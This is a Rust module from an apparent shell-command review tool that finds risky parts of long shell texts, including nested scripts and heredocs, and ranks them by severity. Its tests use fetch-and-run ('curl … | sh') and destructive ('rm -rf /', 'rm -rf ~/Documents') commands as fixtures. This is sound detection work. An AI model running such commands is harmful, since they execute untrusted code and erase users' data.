//! The parts of a long shell text that a card must show wherever the text is cut.

use std::collections::HashMap;
use std::ops::Range;

use crate::engine::critical;
use crate::facts::effects::{self, Weight};
use crate::facts::paths::Directories;
use crate::facts::wrappers::{Inner, Unwrapped, behind};
use crate::shell::{
    self, Command, Dialect, PipePosition, Redirect, RedirectOp, Scan, Via, scan_as,
};

/// A part of a text that a person should not miss.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Highlight {
    /// Bytes of the text; a pipeline is shown from its first command on.
    pub span: Range<usize>,
    /// How much it matters; the worst is the least.
    pub weight: Weight,
    /// What it does, as a clause.
    pub why: String,
}

/// Literal scripts inside each other are followed this deep.
const MAX_DEPTH: u32 = 4;
/// A text that cannot be read as a whole is read line by line as far as this; bytes.
const MOST_READ: usize = 1 << 20;

/// The parts of a shell text that matter, in its order. What cannot be read as a whole is looked at
/// line by line.
#[must_use]
pub fn of_shell(text: &str, dirs: Directories<'_>) -> Vec<Highlight> {
    let mut found = Found::default();
    let scan = shell::scan(text);
    found.commands(text, 0, &scan, dirs, 0);
    if !scan.understood() {
        let mut at = 0;
        for line in text.split_inclusive('\n') {
            if at >= MOST_READ {
                break;
            }
            if !line.trim().is_empty() {
                found.commands(line, at, &shell::scan(line), dirs, 0);
            }
            at += line.len();
        }
    }
    let mut all: Vec<Highlight> = found.by_start.into_values().collect();
    all.sort_by_key(|one| (one.span.start, one.span.end));
    all
}

/// Of so many commands it is worked out what they do; behind them only critical ones are looked
/// for. It takes some 14 µs for each, and a card is drawn while others wait.
const MOST: usize = 5_000;

/// The worst of each place where a part begins.
#[derive(Default)]
struct Found {
    by_start: HashMap<usize, Highlight>,
    looked_at: usize,
}

impl Found {
    /// Adds what a text, which begins at `base` of the whole, would do.
    fn commands(
        &mut self,
        text: &str,
        base: usize,
        scan: &Scan<'_>,
        dirs: Directories<'_>,
        depth: u32,
    ) {
        let behind = behind(&scan.commands);
        let critical = critical::all(scan, &behind, depth);
        let critical: HashMap<usize, &'static str> =
            critical.map(|(reason, span)| (span.start, reason)).collect();
        let mut pipeline = 0;
        for (command, behind) in scan.commands.iter().zip(&behind) {
            let span = critical::span(command);
            if matches!(command.pipe, PipePosition::Alone | PipePosition::First) {
                pipeline = span.start;
            }
            if command.via == Via::Guess || self.inside(text, base, command, behind, dirs, depth) {
                continue;
            }
            self.looked_at += 1;
            let worst = match critical.get(&span.start) {
                Some(reason) => Some((Weight::Critical, (*reason).to_owned())),
                None if self.looked_at < MOST => worst_of(command, dirs),
                None => None,
            };
            if let Some((weight, why)) = worst {
                let start = pipeline.min(span.start);
                self.add(Highlight { span: base + start..base + span.end, weight, why });
            }
        }
    }

    /// Looks into the literal script that a command runs; false where it has none that stands in
    /// the text as it is, or nothing in it matters.
    fn inside(
        &mut self,
        text: &str,
        base: usize,
        command: &Command<'_>,
        behind: &Option<Unwrapped<'_, '_>>,
        dirs: Directories<'_>,
        depth: u32,
    ) -> bool {
        if depth >= MAX_DEPTH {
            return false;
        }
        let before = self.by_start.len();
        for (script, dialect) in scripts(text, command, behind) {
            let body = text.get(script.clone()).unwrap_or_default();
            self.commands(body, base + script.start, &scan_as(body, dialect), dirs, depth + 1);
        }
        self.by_start.len() > before
    }

    fn add(&mut self, new: Highlight) {
        let old = self.by_start.entry(new.span.start).or_insert_with(|| new.clone());
        old.span.end = old.span.end.max(new.span.end);
        if new.weight < old.weight {
            (old.weight, old.why) = (new.weight, new.why);
        }
    }
}

/// The literal scripts that a command runs, where they stand in the text as they are.
fn scripts(
    text: &str,
    command: &Command<'_>,
    behind: &Option<Unwrapped<'_, '_>>,
) -> Vec<(Range<usize>, Dialect)> {
    let inner = behind.iter().flat_map(|behind| &behind.inner);
    let found = inner.filter_map(|inner| match inner {
        Inner::Script { text: script, dialect } => Some((range_of(script, text)?, *dialect)),
        Inner::Input(dialect) => {
            let here = |one: &&Redirect<'_>| one.op == RedirectOp::HereDocument;
            let body = command.redirects.iter().rev().find(here)?.target.literal()?;
            Some((range_of(body, text)?, *dialect))
        }
        Inner::Argv { .. } | Inner::Unknown => None,
    });
    found.collect()
}

/// Where a part that the scanner borrowed from the text begins and ends.
fn range_of(part: &str, text: &str) -> Option<Range<usize>> {
    let start = part.as_ptr().addr().checked_sub(text.as_ptr().addr())?;
    let range = start..start.checked_add(part.len())?;
    (text.get(range.clone()) == Some(part)).then_some(range)
}

/// The worst that one command does, where it matters.
fn worst_of(command: &Command<'_>, dirs: Directories<'_>) -> Option<(Weight, String)> {
    let alone = Scan { commands: vec![command.clone()], ..Scan::default() };
    let all = effects::of_shell(&alone, dirs);
    let weighed = all.iter().filter_map(|effect| Some((Weight::of(effect)?, effect)));
    weighed.min_by_key(|(weight, _)| *weight).map(|(weight, effect)| (weight, effect.to_string()))
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used, reason = "tests fail by panicking")]
    use super::*;

    const HERE: Directories<'static> =
        Directories { cwd: Some("/home/ana/shop"), home: Some("/home/ana") };

    /// The line, weight and text of every highlight.
    fn seen(text: &str) -> Vec<(usize, Weight, &str)> {
        let line = |at: usize| text.get(..at).unwrap().matches('\n').count() + 1;
        let one = |one: Highlight| (line(one.span.start), one.weight, text.get(one.span).unwrap());
        of_shell(text, HERE).into_iter().map(one).collect()
    }

    #[test]
    fn what_fetches_and_runs_deletes_or_publishes_is_found_where_it_stands() {
        let text = format!(
            "{}curl -s https://x.example/i \\\n  | sh\necho b\nrm -rf ~/Documents\n\
             git push origin main\n",
            "echo a > build/log\n".repeat(59)
        );
        assert_eq!(
            seen(&text),
            [
                (60, Weight::Critical, "curl -s https://x.example/i \\\n  | sh"),
                (63, Weight::Critical, "rm -rf ~/Documents"),
                (64, Weight::Grave, "git push origin main"),
            ]
        );
    }

    #[test]
    fn what_a_script_inside_of_the_text_does_is_found_in_the_script() {
        let text = "set -e\nbash -c 'cd x\nsudo id\necho'\nsh <<'EOF'\necho\nrm -rf /\nEOF\n";
        assert_eq!(seen(text), [(3, Weight::Grave, "sudo id"), (7, Weight::Critical, "rm -rf /")]);
    }

    #[test]
    fn a_text_that_cannot_be_read_is_looked_at_line_by_line() {
        let text = format!("if ((; then\n{}rm -rf /\n", "echo a\n".repeat(20_000));
        assert_eq!(seen(&text), [(20_002, Weight::Critical, "rm -rf /")]);
    }

    #[test]
    fn everyday_lines_are_none() {
        assert_eq!(seen("cargo test\ncat README.md\nmkdir -p build; cp a b\n"), []);
    }
}
